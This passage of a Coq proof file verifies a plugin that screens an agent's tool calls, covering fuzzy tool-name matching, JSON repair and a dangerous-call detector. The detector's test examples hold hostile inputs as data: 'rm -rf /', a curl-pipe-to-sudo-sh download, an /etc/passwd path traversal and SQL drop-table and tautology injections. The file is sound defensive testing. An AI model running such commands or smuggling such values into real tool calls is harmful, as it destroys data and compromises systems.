Definition declared_properties `{TypeBox} (schema : option ToolSchema) : Properties :=
  match schema with
  | Some tool_schema =>
      match schema_parameters tool_schema with
      | Some parameters => properties_of parameters
      | None => []
      end
  | None => []
  end.

(** *** Runs of the hooks *)

(** The host fires the two hooks, one event after the other. *)
Inductive HookEvent : Type :=
| Before (event : ToolCallEvent)
| After (event : ToolCallEvent).

Definition hook_step `{TypeBox} (cfg : PluginConfig) (state : PluginState)
    (ev : HookEvent) : PluginState :=
  match ev with
  | Before event => fst (fst (before_tool_call cfg state event))
  | After event => after_tool_call state event
  end.

Definition hook_run `{TypeBox} (cfg : PluginConfig) (state : PluginState)
    (evs : list HookEvent) : PluginState :=
  fold_left (hook_step cfg) evs state.

(** The handler refuses the call. *)
Definition refused (cfg : PluginConfig) (event : ToolCallEvent) : bool :=
  not_false (blockDangerousCalls cfg)
  && dangerous (checkDangerousCall (toolName event) (params event)).

(** How many calls came to the [before_tool_call] hook, and how many of
    them were refused. *)
Definition calls (evs : list HookEvent) : nat :=
  List.length (List.filter (fun ev => match ev with Before _ => true | After _ => false end) evs).

Definition refusals (cfg : PluginConfig) (evs : list HookEvent) : nat :=
  List.length
    (List.filter (fun ev => match ev with
                            | Before event => refused cfg event
                            | After _ => false
                            end) evs).

(** The names of the tools that completed. *)
Definition completed (evs : list HookEvent) : list string :=
  List.flat_map (fun ev => match ev with
                           | Before _ => []
                           | After event => [toolName event]
                           end) evs.

(** A configuration with other answers to the two settings of the fuzzy
    match. *)
Definition with_fuzzy_settings (cfg : PluginConfig) (allow : option bool)
    (limit : option float) : PluginConfig :=
  mkPluginConfig (enabled cfg) (repairStrategy cfg) (blockOnValidationFailure cfg)
    (blockDangerousCalls cfg) allow limit (logValidationErrors cfg) (strictMode cfg).

(** A configuration with logging turned off. *)
Definition without_logging (cfg : PluginConfig) : PluginConfig :=
  mkPluginConfig (enabled cfg) (repairStrategy cfg) (blockOnValidationFailure cfg)
    (blockDangerousCalls cfg) (allowToolNameFuzzyMatch cfg)
    (maxFuzzyMatchDistance cfg) (Some false) (strictMode cfg).

(** *** Texts free of some characters *)

(** None of the characters of [s] is among [chars]. *)
Fixpoint free_of (chars : list ascii) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => negb (existsb (Ascii.eqb c) chars) && free_of chars s'
  end.
(* ========================================================================= *)
(** * Properties *)
(* ========================================================================= *)

(* ------------------------------------------------------------------------- *)
(** ** Loops and indexed writes *)
(* ------------------------------------------------------------------------- *)

Module JsArrayFacts.
Import JsArray.

Lemma set_length_append {A : Type} (d : A) (l : list A) (v : A) :
  set d l (List.length l) v = l ++ [v].
Proof.
  induction l as [|x l IH]; simpl; [reflexivity|]. now rewrite IH.
Qed.

Lemma nth_set_same {A : Type} (d d' : A) (l : list A) (i : nat) (v : A) :
  nth i (set d l i v) d' = v.
Proof.
  revert l; induction i as [|i IH]; intros [|x l]; simpl; auto.
Qed.

Lemma nth_set_other {A : Type} (d : A) (l : list A) (i k : nat) (v : A) :
  i <> k -> nth k (set d l i v) d = nth k l d.
Proof.
  revert l k; induction i as [|i IH]; intros [|x l] [|k] Hik; simpl;
    try congruence; auto.
  - now destruct k.
  - rewrite IH by congruence. now destruct k.
Qed.

End JsArrayFacts.

(** A [for (k = start; k < start + len; k++)] loop, run as a fold over
    [seq start len], preserves an invariant indexed by the loop counter. *)
Lemma fold_seq_invariant {St : Type} (P : nat -> St -> Prop)
    (f : St -> nat -> St) (len start : nat) (s : St) :
  P start s ->
  (forall k s', start <= k < start + len -> P k s' -> P (S k) (f s' k)) ->
  P (start + len) (fold_left f (seq start len) s).
Proof.
  revert start s; induction len as [|len IH]; intros start s H0 Hstep; simpl.
  - now rewrite Nat.add_0_r.
  - replace (start + S len) with (S start + len) by lia.
    apply IH.
    + apply Hstep; [lia | exact H0].
    + intros k s' Hk. apply Hstep. lia.
Qed.

(* ------------------------------------------------------------------------- *)
(** ** levenshteinDistance computes its recurrence *)
(* ------------------------------------------------------------------------- *)

Section LevMatrix.
Variables a b : string.
Let la := String.length a.
Let lb := String.length b.

Lemma lev_rec_0_r (i : nat) : lev_rec a b i 0 = i.
Proof. destruct i; reflexivity. Qed.

Lemma lev_rec_SS (i j : nat) :
  lev_rec a b (S i) (S j) =
  if String.eqb (charAt b i) (charAt a j) then lev_rec a b i j
  else Nat.min (lev_rec a b i j + 1)
         (Nat.min (lev_rec a b (S i) j + 1) (lev_rec a b i (S j) + 1)).
Proof. reflexivity. Qed.

Lemma nth_mset (m : Matrix) (i j v k : nat) :
  nth k (mset m i j v) [] =
  if Nat.eqb k i then JsArray.set 0 (nth i m []) j v else nth k m [].
Proof.
  unfold mset. destruct (Nat.eqb_spec k i) as [->|Hne].
  - apply JsArrayFacts.nth_set_same.
  - apply JsArrayFacts.nth_set_other. congruence.
Qed.

Lemma nth_mset_row (m : Matrix) (i k : nat) (row : list nat) :
  nth k (mset_row m i row) [] = if Nat.eqb k i then row else nth k m [].
Proof.
  unfold mset_row. destruct (Nat.eqb_spec k i) as [->|Hne].
  - apply JsArrayFacts.nth_set_same.
  - apply JsArrayFacts.nth_set_other. congruence.
Qed.

Lemma nth_map_seq (f : nat -> nat) (n j : nat) :
  j < n -> nth j (map f (seq 0 n)) 0 = f j.
Proof.
  intros Hj. rewrite (nth_indep _ 0 (f 0)) by now rewrite length_map, length_seq.
  rewrite map_nth, seq_nth by exact Hj. reflexivity.
Qed.

Lemma set_map_seq (f : nat -> nat) (n : nat) :
  JsArray.set 0 (map f (seq 0 n)) n (f n) = map f (seq 0 (S n)).
Proof.
  rewrite seq_S, map_app. simpl.
  rewrite <- JsArrayFacts.set_length_append with (d := 0).
  now rewrite length_map, length_seq.
Qed.

(** First loop: one row [[i]] per index of [b], and one more. *)
Lemma lev_loop1 (n : nat) :
  fold_left (fun m i => mset_row m i [i]) (seq 0 n) [] =
  map (fun i => [i]) (seq 0 n).
Proof.
  induction n as [|n IH]; [reflexivity|].
  rewrite seq_S, fold_left_app, map_app, IH. simpl. unfold mset_row.
  rewrite <- JsArrayFacts.set_length_append with (d := @nil nat).
  now rewrite length_map, length_seq.
Qed.

(** Second loop: row 0 becomes [0, 1, ..., a.length]. *)
Lemma lev_loop2 (m : Matrix) :
  fresh_from b m 0 ->
  let m' := fold_left (fun m j => mset m 0 j j) (seq 0 (la + 1)) m in
  done_upto a b m' 1 /\ fresh_from b m' 1.
Proof.
  intros Hfresh m'.
  assert (H : nth 0 m' [] = map (lev_rec a b 0) (seq 0 (Nat.max (0 + (la + 1)) 1))
              /\ fresh_from b m' 1).
  { unfold m'.
    apply (fold_seq_invariant
             (fun j m => nth 0 m [] = map (lev_rec a b 0) (seq 0 (Nat.max j 1))
                         /\ fresh_from b m 1)).
    - split; [apply Hfresh; lia | intros i Hi Hi'; apply Hfresh; lia].
    - intros k s' Hk [Hrow Hrest]. split.
      + rewrite nth_mset. simpl Nat.eqb. cbv iota. rewrite Hrow.
        destruct k as [|k]; [reflexivity|].
        replace (Nat.max (S k) 1) with (S k) by lia.
        replace (Nat.max (S (S k)) 1) with (S (S k)) by lia.
        apply (set_map_seq (lev_rec a b 0) (S k)).
      + intros i Hi Hi'. rewrite nth_mset.
        destruct (Nat.eqb_spec i 0); [lia|]. now apply Hrest. }
  destruct H as [Hrow Hrest]. split; [|exact Hrest].
  intros i Hi. assert (i = 0) by lia; subst i.
  rewrite Hrow. unfold full_row. fold la. f_equal. f_equal. lia.
Qed.

(** Inner loop: row [i] is filled from row [i - 1]. *)
Lemma lev_inner (m : Matrix) (i : nat) :
  1 <= i -> i <= lb ->
  done_upto a b m i -> fresh_from b m i ->
  let m' := fold_left (fun m j => lev_cell a b m i j) (seq 1 la) m in
  done_upto a b m' (S i) /\ fresh_from b m' (S i).
Proof.
  intros Hi1 Hilb Hdone Hfresh m'.
  assert (H : done_upto a b m' i /\ nth i m' [] = map (lev_rec a b i) (seq 0 (1 + la))
              /\ fresh_from b m' (S i)).
  { unfold m'.
    apply (fold_seq_invariant
             (fun j m => done_upto a b m i
                         /\ nth i m [] = map (lev_rec a b i) (seq 0 j)
                         /\ fresh_from b m (S i))).
    - repeat split; auto.
      + rewrite Hfresh by lia. simpl. now rewrite lev_rec_0_r.
      + intros k Hk Hk'. apply Hfresh; lia.
    - intros j s' Hj (Hd & Hrow & Hf).
      assert (Hprev : nth (i - 1) s' [] = full_row a b (i - 1)) by (apply Hd; lia).
      assert (Hcell : forall v, v = lev_rec a b i j ->
                done_upto a b (mset s' i j v) i
                /\ nth i (mset s' i j v) [] = map (lev_rec a b i) (seq 0 (S j))
                /\ fresh_from b (mset s' i j v) (S i)).
      { intros v ->. repeat split.
        - intros k Hk. rewrite nth_mset.
          destruct (Nat.eqb_spec k i); [lia|]. now apply Hd.
        - rewrite nth_mset, Nat.eqb_refl, Hrow. apply set_map_seq.
        - intros k Hk Hk'. rewrite nth_mset.
          destruct (Nat.eqb_spec k i); [lia|]. now apply Hf. }
      assert (Hdiag : mget s' (i - 1) (j - 1) = lev_rec a b (i - 1) (j - 1)).
      { unfold mget. rewrite Hprev. apply nth_map_seq. lia. }
      assert (Hleft : mget s' i (j - 1) = lev_rec a b i (j - 1)).
      { unfold mget. rewrite Hrow. apply nth_map_seq. lia. }
      assert (Hup : mget s' (i - 1) j = lev_rec a b (i - 1) j).
      { unfold mget. rewrite Hprev. apply nth_map_seq. lia. }
      unfold lev_cell. rewrite Hdiag, Hleft, Hup.
      destruct i as [|i']; [lia|]. destruct j as [|j']; [lia|].
      replace (S i' - 1) with i' by lia. replace (S j' - 1) with j' by lia.
      destruct (String.eqb (charAt b i') (charAt a j')) eqn:E;
        apply Hcell; rewrite lev_rec_SS, E; reflexivity. }
  destruct H as (Hd & Hrow & Hf). split; [|exact Hf].
  intros k Hk. destruct (Nat.eq_dec k i) as [->|Hne].
  - rewrite Hrow. unfold full_row. fold la. f_equal. f_equal. lia.
  - apply Hd. lia.
Qed.

(** The three loops leave every row filled by the recurrence. *)
Lemma lev_matrix_rows : done_upto a b (lev_matrix a b) (lb + 1).
Proof.
  unfold lev_matrix. fold la lb.
  rewrite lev_loop1.
  set (m1 := map (fun i => [i]) (seq 0 (lb + 1))).
  assert (Hfresh : fresh_from b m1 0).
  { intros i _ Hi. unfold m1.
    rewrite (nth_indep _ [] [0]) by (rewrite length_map, length_seq; lia).
    rewrite (map_nth (fun i => [i])), seq_nth by lia. reflexivity. }
  destruct (lev_loop2 m1 Hfresh) as [Hd1 Hf1].
  set (m2 := fold_left (fun m j => mset m 0 j j) (seq 0 (la + 1)) m1) in *.
  assert (H : done_upto a b
                (fold_left
                   (fun m i => fold_left (fun m j => lev_cell a b m i j) (seq 1 la) m)
                   (seq 1 lb) m2) (1 + lb)
              /\ fresh_from b
                (fold_left
                   (fun m i => fold_left (fun m j => lev_cell a b m i j) (seq 1 la) m)
                   (seq 1 lb) m2) (1 + lb)).
  { apply (fold_seq_invariant (fun i m => done_upto a b m i /\ fresh_from b m i)).
    - now split.
    - intros k s' Hk [Hd Hf]. apply lev_inner; auto; lia. }
  replace (lb + 1) with (1 + lb) by lia. apply H.
Qed.

Theorem levenshteinDistance_rec : levenshteinDistance a b = lev_rec a b lb la.
Proof.
  unfold levenshteinDistance, mget. fold la lb.
  rewrite (lev_matrix_rows lb) by lia.
  apply nth_map_seq. lia.
Qed.

End LevMatrix.

(* ------------------------------------------------------------------------- *)
(** ** levenshteinDistance: symmetry and the diagonal *)
(* ------------------------------------------------------------------------- *)

(** The table for [(b, a)] is the transpose of the table for [(a, b)]. *)
Lemma lev_rec_transpose (a b : string) (i j : nat) :
  lev_rec a b i j = lev_rec b a j i.
Proof.
  revert j; induction i as [|i IHi]; intros j.
  - now rewrite lev_rec_0_r.
  - induction j as [|j IHj]; [reflexivity|].
    rewrite !lev_rec_SS, (String.eqb_sym (charAt b i) (charAt a j)).
    rewrite (IHi j), (IHi (S j)), IHj.
    destruct (String.eqb (charAt a j) (charAt b i)); lia.
Qed.

Lemma lev_rec_diag (a : string) (i : nat) : lev_rec a a i i = 0.
Proof.
  induction i as [|i IH]; [reflexivity|].
  now rewrite lev_rec_SS, String.eqb_refl.
Qed.

(** C10. [levenshteinDistance] is symmetric, is zero on equal arguments, and
    puts "chroma_store" and "chroma_stor" at distance at most one. *)
Theorem levenshteinDistance_symmetric_diag :
  (forall a b : string, levenshteinDistance a b = levenshteinDistance b a) /\
  (forall a : string, levenshteinDistance a a = 0) /\
  levenshteinDistance "chroma_store" "chroma_stor" <= 1.
Proof.
  split; [|split].
  - intros a b. rewrite !levenshteinDistance_rec. apply lev_rec_transpose.
  - intros a. rewrite levenshteinDistance_rec. apply lev_rec_diag.
  - vm_compute. lia.
Qed.

(* ------------------------------------------------------------------------- *)
(** ** findClosestToolName *)
(* ------------------------------------------------------------------------- *)

Example ceil_three_tenths_agrees_with_binary64 :
  forallb (fun len => Z.eqb (Z.of_nat (ceil_three_tenths len)) (ceil_three_tenths_float len))
          (seq 0 3000) = true.
Proof. vm_compute. reflexivity. Qed.

Example closest_chrom_search :
  findClosestToolName "chrom_search" ["chroma_search"; "chroma_store"]
  = mkClosestMatch (Some "chroma_search") (Finite 1).
Proof. reflexivity. Qed.

Example closest_case_insensitive :
  findClosestToolName "BASH" ["read"; "bash"] = mkClosestMatch (Some "bash") (Finite 0).
Proof. reflexivity. Qed.

Example closest_empty_pool :
  findClosestToolName "bash" [] = mkClosestMatch None Infinity.
Proof. reflexivity. Qed.

Section ClosestLoop.
Variable inputLower : string.

(** The distance the loop computes for a candidate. *)
Let dist (tool : string) : nat :=
  levenshteinDistance inputLower (JsString.toLowerCase tool).

(** What the loop hands to the code after it: either the pair it started
    from, no candidate being closer, or a candidate of minimum distance. *)
Lemma closest_loop_minimum (tools : list string) :
  forall (closest : option string) (minDistance : Distance),
  no_ci_match inputLower tools = true ->
  exists c d,
    closest_loop inputLower tools closest minDistance = closest_result c d /\
    ((c = closest /\ d = minDistance /\
      forall t, In t tools -> dist_ltb (Finite (dist t)) minDistance = false)
     \/
     (exists best, In best tools /\ c = Some best /\ d = Finite (dist best) /\
        dist_ltb d minDistance = true /\
        forall t, In t tools -> dist best <= dist t)).
Proof.
  induction tools as [|tool rest IH]; intros closest minDistance Hno.
  - exists closest, minDistance. split; [reflexivity|]. left. now repeat split.
  - simpl in Hno. apply andb_prop in Hno as [Htool Hrest].
    apply negb_true_iff in Htool. cbn [closest_loop]. cbv zeta.
    rewrite Htool. fold (dist tool).
    destruct (dist_ltb (Finite (dist tool)) minDistance) eqn:Hlt.
    + destruct (IH (Some tool) (Finite (dist tool)) Hrest)
        as (c & d & Heq & [(-> & -> & Hmin) | (best & Hin & -> & -> & Hlt' & Hmin)]).
      * exists (Some tool), (Finite (dist tool)). split; [exact Heq|]. right.
        exists tool. repeat split; auto; [now left|].
        intros t [<-|Ht]; [lia|]. specialize (Hmin t Ht). simpl in Hmin.
        apply Nat.ltb_ge in Hmin. exact Hmin.
      * exists (Some best), (Finite (dist best)). split; [exact Heq|]. right.
        exists best. simpl in Hlt'. apply Nat.ltb_lt in Hlt'.
        repeat split; auto; [now right| |].
        -- destruct minDistance as [m|]; simpl in *; [|reflexivity].
           apply Nat.ltb_lt in Hlt. apply Nat.ltb_lt. lia.
        -- intros t [<-|Ht]; [lia | now apply Hmin].
    + destruct (IH closest minDistance Hrest)
        as (c & d & Heq & [(-> & -> & Hmin) | (best & Hin & -> & -> & Hlt' & Hmin)]).
      * exists closest, minDistance. split; [exact Heq|]. left.
        repeat split; auto. intros t [<-|Ht]; [exact Hlt | now apply Hmin].
      * exists (Some best), (Finite (dist best)). split; [exact Heq|]. right.
        exists best. repeat split; auto; [now right|].
        intros t [<-|Ht]; [|now apply Hmin].
        destruct minDistance as [m|]; simpl in *; [|discriminate].
        apply Nat.ltb_ge in Hlt. apply Nat.ltb_lt in Hlt'. lia.
Qed.

End ClosestLoop.

Lemma levenshteinDistance_empty_r (a : string) :
  levenshteinDistance a "" = String.length a.
Proof. now rewrite levenshteinDistance_rec. Qed.

(** Lower-casing keeps the length: [closest.length] is also the length of
    the string the distance was computed on. *)
Lemma toLowerCase_length (s : string) :
  String.length (JsString.toLowerCase s) = String.length s.
Proof.
  unfold JsString.toLowerCase. induction s as [|c s IH]; simpl; congruence.
Qed.

Lemma no_ci_match_not_included (input : string) (tools : list string) :
  no_ci_match (JsString.toLowerCase input) tools = true ->
  existsb (String.eqb input) tools = false.
Proof.
  induction tools as [|t tools IH]; simpl; [reflexivity|].
  intros H. apply andb_prop in H as [Ht Hrest]. rewrite (IH Hrest), orb_false_r.
  destruct (String.eqb_spec input t) as [->|]; [|reflexivity].
  now rewrite String.eqb_refl in Ht.
Qed.

(** The result of [findClosestToolName] when no candidate matches exactly or
    up to case: the distance is the minimum over the pool, and the match is
    the candidate found when that minimum is within the bound. *)
Lemma findClosestToolName_minimum (input : string) (tools : list string) :
  tools <> [] ->
  no_ci_match (JsString.toLowerCase input) tools = true ->
  exists best, In best tools /\
    let dist t :=
      levenshteinDistance (JsString.toLowerCase input) (JsString.toLowerCase t) in
    (forall t, In t tools -> dist best <= dist t) /\
    findClosestToolName input tools =
    mkClosestMatch
      (if Nat.leb (dist best) (ceil_three_tenths (String.length best))
       then Some best else None)
      (Finite (dist best)).
Proof.
  intros Hne Hno. unfold findClosestToolName.
  rewrite (no_ci_match_not_included _ _ Hno).
  destruct (closest_loop_minimum _ tools None Infinity Hno)
    as (c & d & Heq & [(_ & _ & Hmin) | (best & Hin & -> & -> & _ & Hmin)]).
  - destruct tools as [|t tools]; [congruence|].
    specialize (Hmin t (or_introl eq_refl)). discriminate.
  - exists best. split; [exact Hin|]. cbv zeta. split; [exact Hmin|].
    rewrite Heq. unfold closest_result, truthy_string. simpl dist_leb.
    destruct (String.eqb_spec best "") as [->|Hbest]; simpl.
    + change (JsString.toLowerCase "") with "".
      rewrite levenshteinDistance_empty_r.
      destruct (JsString.toLowerCase input) eqn:E; [|reflexivity].
      unfold no_ci_match in Hno. rewrite forallb_forall in Hno.
      specialize (Hno _ Hin). discriminate Hno.
    + now destruct (Nat.leb _ _).
Qed.

(** C9 (amended). With no exact or case-insensitive match in a non-empty
    pool, [findClosestToolName] reports the minimum distance over the pool
    and returns [null] exactly when it exceeds 30% of the best candidate's
    length rounded up; a candidate of length 1 is returned at distance 1 and
    refused from distance 2 on, a candidate of length 10 is returned up to
    distance 3. *)
Theorem findClosestToolName_threshold (input : string) (tools : list string) :
  tools <> [] ->
  no_ci_match (JsString.toLowerCase input) tools = true ->
  exists best, In best tools /\
    let dist t :=
      levenshteinDistance (JsString.toLowerCase input) (JsString.toLowerCase t) in
    let r := findClosestToolName input tools in
    (forall t, In t tools -> dist best <= dist t) /\
    cm_distance r = Finite (dist best) /\
    (ceil_three_tenths (String.length best) < dist best -> cm_match r = None) /\
    (dist best <= ceil_three_tenths (String.length best) -> cm_match r = Some best) /\
    (String.length best = 1 -> (cm_match r = None <-> 2 <= dist best)) /\
    (String.length best = 10 -> (cm_match r = Some best <-> dist best <= 3)).
Proof.
  intros Hne Hno.
  destruct (findClosestToolName_minimum input tools Hne Hno) as (best & Hin & Hmin & Hr).
  exists best. split; [exact Hin|]. cbv zeta in *. rewrite Hr. simpl.
  split; [exact Hmin|]. split; [reflexivity|].
  set (d := levenshteinDistance _ _) in *.
  repeat split.
  - intros H. apply Nat.leb_gt in H. now rewrite H.
  - intros H. apply Nat.leb_le in H. now rewrite H.
  - rewrite H. change (ceil_three_tenths 1) with 1.
    destruct (Nat.leb_spec d 1); [discriminate | lia].
  - rewrite H. change (ceil_three_tenths 1) with 1.
    destruct (Nat.leb_spec d 1); [lia | reflexivity].
  - rewrite H. change (ceil_three_tenths 10) with 3.
    destruct (Nat.leb_spec d 3); [lia | discriminate].
  - rewrite H. change (ceil_three_tenths 10) with 3.
    destruct (Nat.leb_spec d 3); [reflexivity | lia].
Qed.

Lemma findClosestToolName_threshold_witness :
  exists best, In best ["chroma_search"; "chroma_store"] /\
    let dist t :=
      levenshteinDistance (JsString.toLowerCase "chrom_search") (JsString.toLowerCase t) in
    let r := findClosestToolName "chrom_search" ["chroma_search"; "chroma_store"] in
    (forall t, In t ["chroma_search"; "chroma_store"] -> dist best <= dist t) /\
    cm_distance r = Finite (dist best) /\
    (ceil_three_tenths (String.length best) < dist best -> cm_match r = None) /\
    (dist best <= ceil_three_tenths (String.length best) -> cm_match r = Some best) /\
    (String.length best = 1 -> (cm_match r = None <-> 2 <= dist best)) /\
    (String.length best = 10 -> (cm_match r = Some best <-> dist best <= 3)).
Proof.
  apply (findClosestToolName_threshold "chrom_search" ["chroma_search"; "chroma_store"]).
  - discriminate.
  - reflexivity.
Defined.

(** C9 (as stated, refuted). The candidate "x" has length 1 and is at
    distance 1 from "y", yet it is returned: the bound is the ceiling of
    0.3, which is 1. *)
Lemma findClosestToolName_length_one_returned :
  String.length "x" = 1 /\
  cm_distance (findClosestToolName "y" ["x"]) = Finite 1 /\
  cm_match (findClosestToolName "y" ["x"]) = Some "x" /\
  cm_match (findClosestToolName "y" ["x"]) <> None.
Proof. repeat split; discriminate. Qed.

(* ------------------------------------------------------------------------- *)
(** ** checkDangerousCall *)
(* ------------------------------------------------------------------------- *)

Example danger_rm_rf :
  checkDangerousCall "bash" [("command", JString "ls; rm -rf /")]
  = mkDangerCheck true
      (Some "Potentially dangerous pattern detected in command: /;\s*rm\s+-rf/").
Proof. reflexivity. Qed.

Example danger_curl :
  dangerous (checkDangerousCall "bash"
     [("command", JString "true &&curl http://x/y.sh | sudo sh")]) = true.
Proof. reflexivity. Qed.

Example danger_path_traversal :
  checkDangerousCall "read_file" [("path", JString "../../../etc/passwd")]
  = mkDangerCheck true
      (Some "Potentially dangerous pattern detected in path: /\.\.\//").
Proof. reflexivity. Qed.

Example danger_sql :
  checkDangerousCall "db" [("query", JString "select 1; drop   table users")]
  = mkDangerCheck true
      (Some "Potentially dangerous pattern detected in query: /;\s*DROP\s+TABLE/i").
Proof. reflexivity. Qed.

Example danger_tautology :
  dangerous (checkDangerousCall "db" [("query", JString "x' or '1'='1")]) = true.
Proof. reflexivity. Qed.

Example danger_safe_path :
  checkDangerousCall "read_file" [("path", JString "/home/user/file.txt")]
  = mkDangerCheck false None.
Proof. reflexivity. Qed.

Example danger_rm_rf_other_tool :
  checkDangerousCall "shell" [("command", JString "ls; rm -rf /")]
  = mkDangerCheck false None.
Proof. reflexivity. Qed.

Example danger_not_a_string :
  checkDangerousCall "read_file" [("path", JArray [JString "../x"])]
  = mkDangerCheck false None.
Proof. reflexivity. Qed.

(* ------------------------------------------------------------------------- *)
(** ** Numbers of the runtime: sample conversions *)
(* ------------------------------------------------------------------------- *)

Example Number_samples :
  JsNumber.of_string "5" = 5%float /\
  JsNumber.of_string "  42 " = 42%float /\
  JsNumber.of_string "" = 0%float /\
  JsNumber.of_string "-1.5e3" = (-1500)%float /\
  JsNumber.of_string ".5" = 0.5%float /\
  JsNumber.of_string "5." = 5%float /\
  JsNumber.of_string "0x1F" = 31%float /\
  JsNumber.of_string "0.1" = 0x1.999999999999ap-4%float /\
  JsNumber.of_string "0.3" = 0x1.3333333333333p-2%float /\
  JsNumber.of_string "1e23" = 0x1.52d02c7e14af6p+76%float /\
  JsNumber.of_string "9007199254740993" = 0x1p+53%float /\
  JsNumber.of_string "5e-324" = 0x1p-1074%float /\
  JsNumber.of_string "2e-324" = 0%float /\
  JsNumber.of_string "1.7976931348623157e308" = 0x1.fffffffffffffp+1023%float /\
  JsNumber.of_string "1.7976931348623159e308" = PrimFloat.infinity /\
  JsNumber.of_string "-Infinity" = PrimFloat.neg_infinity.
Proof. vm_compute. repeat split. Qed.

Example Number_not_numeric :
  forallb (fun s => JsNumber.isNaN (JsNumber.of_string s))
          ["abc"; "12px"; "1 2"; "."; "e5"; "1e"; "0x"; "+-1"; "--1"; "-0x10";
           "infinity"; "1,5"] = true.
Proof. vm_compute. reflexivity. Qed.

Example Number_toString_samples :
  map JsNumber.toString
    [5%float; 0.1%float; (-1.5)%float; 1e21%float; 1e23%float; 123456789012345680000%float;
     1.5e-7%float; 0.000001%float; 5e-324%float; 0x1.fffffffffffffp+1023%float;
     0.30000000000000004%float; 100%float; 1234.5678%float; (-0)%float;
     PrimFloat.nan; PrimFloat.neg_infinity; 9007199254740992%float;
     4.35%float; 2e-7%float; 123456%float]
  = ["5"; "0.1"; "-1.5"; "1e+21"; "1e+23"; "123456789012345680000";
     "1.5e-7"; "0.000001"; "5e-324"; "1.7976931348623157e+308";
     "0.30000000000000004"; "100"; "1234.5678"; "0";
     "NaN"; "-Infinity"; "9007199254740992";
     "4.35"; "2e-7"; "123456"].
Proof. vm_compute. reflexivity. Qed.

(* ------------------------------------------------------------------------- *)
(** ** JSON.parse and tryParseJson *)
(* ------------------------------------------------------------------------- *)

Example JSON_parse_samples :
  JSON.parse ("{" ++ q "a" ++ ": [1, 2.5, true, null, " ++ q "x\ny" ++ "], "
                  ++ q "b" ++ ": {}}")
  = Some (JObject [("a", JArray [JNumber 1; JNumber 2.5; JBoolean true; JNull;
                                 JString ("x" ++ String "010" "y")]);
                   ("b", JObject [])]) /\
  JSON.parse " -0.5e1 " = Some (JNumber (-5)) /\
  JSON.parse ("{" ++ q "a" ++ ":1," ++ q "b" ++ ":2," ++ q "a" ++ ":3}")
  = Some (JObject [("a", JNumber 3); ("b", JNumber 2)]) /\
  JSON.parse (q "A\/") = Some (JString "A/") /\
  JSON.parse "01" = None /\
  JSON.parse "1." = None /\
  JSON.parse "[1,]" = None /\
  JSON.parse "{a: 1}" = None /\
  JSON.parse "'a'" = None /\
  JSON.parse "" = None /\
  JSON.parse "not valid json {" = None /\
  JSON.parse "[1] x" = None.
Proof. vm_compute. repeat split. Qed.

Example fixups_bob :
  Fixups.apply "{name: 'bob', age: 30,}"
  = ("{" ++ q "name" ++ ": " ++ q "bob" ++ "," ++ q "age" ++ ": 30}")%string.
Proof. vm_compute. reflexivity. Qed.

Example tryParseJson_bob :
  tryParseJson (JString "{name: 'bob', age: 30,}")
  = mkParseResult (JObject [("name", JString "bob"); ("age", JNumber 30)]) true.
Proof. vm_compute. reflexivity. Qed.

Example tryParseJson_apostrophe :
  tryParseJson (JString ("{" ++ q "a" ++ ": " ++ q "it's" ++ ",}"))
  = mkParseResult (JString ("{" ++ q "a" ++ ": " ++ q "it's" ++ ",}")) false.
Proof. vm_compute. reflexivity. Qed.

Example tryParseJson_invalid :
  tryParseJson (JString "not valid json {")
  = mkParseResult (JString "not valid json {") false.
Proof. vm_compute. reflexivity. Qed.

Lemma replace_from_single_quote (fuel : nat) (s : string) :
  String.length s < fuel ->
  RegExp.replace_from fuel Fixups.single_quote Fixups.double_quote s
  = JsString.map swap_quote s.
Proof.
  revert s; induction fuel as [|fuel IH]; intros s Hlen; [lia|].
  destruct s as [|c s]; [reflexivity|].
  simpl in Hlen. cbn [RegExp.replace_from JsString.map].
  unfold RegExp.match_here, swap_quote. cbn [RegExp.run RegExp.pattern
    RegExp.ignoreCase Fixups.single_quote RegExp.char_matches].
  rewrite (Ascii.eqb_sym c). destruct (Ascii.eqb "'" c).
  - replace (String.length s <? String.length (String c s)) with true
      by (symmetry; apply Nat.ltb_lt; simpl; lia).
    cbn. rewrite IH by lia. reflexivity.
  - rewrite IH by lia. reflexivity.
Qed.

Lemma replace_single_quote (s : string) :
  RegExp.replace s Fixups.single_quote Fixups.double_quote
  = JsString.map swap_quote s.
Proof. apply replace_from_single_quote. lia. Qed.

(** C8. [tryParseJson]: a value that is no string passes through with
    [success = true]; a string that parses is returned parsed; a string that
    does not is fixed by the three replacements in order (keys quoted, single
    quotes turned into double quotes, trailing commas dropped) and parsed
    once more, and when that fails too the original string comes back with
    [success = false].  The function is total: it never throws.  The text
    [{name: 'bob', age: 30,}] parses to the object with [name] "bob" and
    [age] 30. *)
Theorem tryParseJson_spec :
  (forall value, Value.is_string value = false ->
     tryParseJson value = mkParseResult value true) /\
  (forall text v, JSON.parse text = Some v ->
     tryParseJson (JString text) = mkParseResult v true) /\
  (forall text, JSON.parse text = None ->
     let keys_quoted := RegExp.replace text Fixups.unquoted_key Fixups.quote_key in
     let quotes_swapped := JsString.map swap_quote keys_quoted in
     let fixed :=
       RegExp.replace quotes_swapped Fixups.trailing_comma Fixups.keep_closing in
     (forall v, JSON.parse fixed = Some v ->
        tryParseJson (JString text) = mkParseResult v true) /\
     (JSON.parse fixed = None ->
        tryParseJson (JString text) = mkParseResult (JString text) false)) /\
  (forall value, exists r, tryParseJson value = r /\
     (success r = false -> parsed r = value /\ Value.is_string value = true)) /\
  JSON.parse "{name: 'bob', age: 30,}" = None /\
  tryParseJson (JString "{name: 'bob', age: 30,}")
  = mkParseResult (JObject [("name", JString "bob"); ("age", JNumber 30)]) true.
Proof.
  split; [|split; [|split; [|split; [|split]]]].
  - intros [] H; try reflexivity. discriminate H.
  - intros text v H. simpl. now rewrite H.
  - intros text H keys_quoted quotes_swapped fixed.
    assert (Hfixed : Fixups.apply text = fixed).
    { unfold Fixups.apply, fixed, quotes_swapped, keys_quoted.
      now rewrite replace_single_quote. }
    split.
    + intros v Hv. simpl. now rewrite H, Hfixed, Hv.
    + intros Hv. simpl. now rewrite H, Hfixed, Hv.
  - intros value. eexists. split; [reflexivity|].
    destruct value; simpl; try discriminate.
    destruct (JSON.parse s); [discriminate|].
    destruct (JSON.parse (Fixups.apply s)); [discriminate|]. now split.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
Qed.

Lemma tryParseJson_spec_witness :
  tryParseJson (JNumber 3) = mkParseResult (JNumber 3) true /\
  tryParseJson (JString "[1, 2]") = mkParseResult (JArray [JNumber 1; JNumber 2]) true /\
